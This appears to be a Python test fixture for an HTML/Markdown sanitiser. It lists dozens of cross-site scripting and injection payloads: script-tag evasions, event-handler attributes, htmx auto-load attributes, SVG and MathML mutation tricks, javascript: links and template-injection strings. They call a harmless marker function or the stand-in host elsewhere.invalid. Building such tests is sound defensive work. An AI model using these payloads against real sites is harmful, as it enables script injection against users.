"""What a hostile customer might write: each would call `executed` or ask another host if it could (TRUST S08)."""

ELSEWHERE = "https://elsewhere.invalid"
CALL = "executed('it ran')"

ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script type=module>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<template><script>{CALL}</script></template>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}/o></object>",
    f"<embed src={ELSEWHERE}/e>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    f"<style>@import '{ELSEWHERE}/i.css'; body{{display:none}}</style>",
    f"<form action={ELSEWHERE}><button autofocus>Go</button></form>",
    f"<portal src={ELSEWHERE}></portal>",
)
ATTRIBUTES = (
    f"<img src=x onerror={CALL}>",
    f'<img src="x" onerror="{CALL}">',
    f"<img/src=x/onerror={CALL}>",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<video src=x onerror={CALL}></video>",
    f"<audio src={ELSEWHERE}/a.ogg autoplay></audio>",
    f"<marquee onstart={CALL}>x</marquee>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus='",
    f"<p style='background:url({ELSEWHERE}/b.png)'>x</p>",
    f"<div popover id=pop onbeforetoggle={CALL}></div>",
    f"<button popovertarget=keys onclick={CALL}>x</button>",
)
HTMX = (
    f"<div hx-get={ELSEWHERE} hx-trigger=load></div>",
    "<div hx-get=/live hx-trigger='load'>x</div>",
    f"<div data-hx-get={ELSEWHERE} data-hx-trigger=load></div>",
    f'<div hx-on:htmx:load="{CALL}" hx-get=/ hx-trigger=load></div>',
    f'<div data-hx-on::load="{CALL}">x</div>',
    f"<div hx-trigger='load[{CALL}]' hx-get=/></div>",
    f"<div hx-vals='js:{{x: {CALL}}}' hx-get=/ hx-trigger=load></div>",
    "<form hx-post=/sign-out/ hx-trigger=load></form>",
    f"<div hx-ext=x hx-headers='js:{{x: {CALL}}}' hx-get=/ hx-trigger=load></div>",
)
SVG = (
    f"<svg onload={CALL}></svg>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{CALL}</script></svg>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
)
MARKDOWN = (
    f"[read me](javascript:{CALL})",
    f"[read me](JaVaScRiPt&#58;{CALL})",
    f"[read me](data:text/html,<script>{CALL}</script>)",
    f"[read me](vbscript:{CALL})",
    f"<javascript:{CALL}>",
    f"![a picture]({ELSEWHERE}/picture.png)",
    f'![a picture](x"onerror="{CALL})',
    f'[a]({ELSEWHERE} "x" onmouseover={CALL})',
    f"```html\n<script>{CALL}</script>\n```",
    f"`<img src=x onerror={CALL}>`",
    f"[a]: javascript:{CALL}\n\n[a]",
    f"| a |\n|---|\n| <img src=x onerror={CALL}> |",
)
WORDS = (
    f'{{{{ constructor.constructor("{CALL}")() }}}}',
    f"${{{CALL}}}",
    "{% load x %}{{ 7|add:7 }}",
    f"\u202e<img src=x onerror={CALL}>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
)
ALL = (*ELEMENTS, *ATTRIBUTES, *HTMX, *SVG, *MARKDOWN, *WORDS)
TEXTS = tuple("\n\n".join(some) for some in (ELEMENTS, ATTRIBUTES, HTMX, SVG)) + MARKDOWN + WORDS
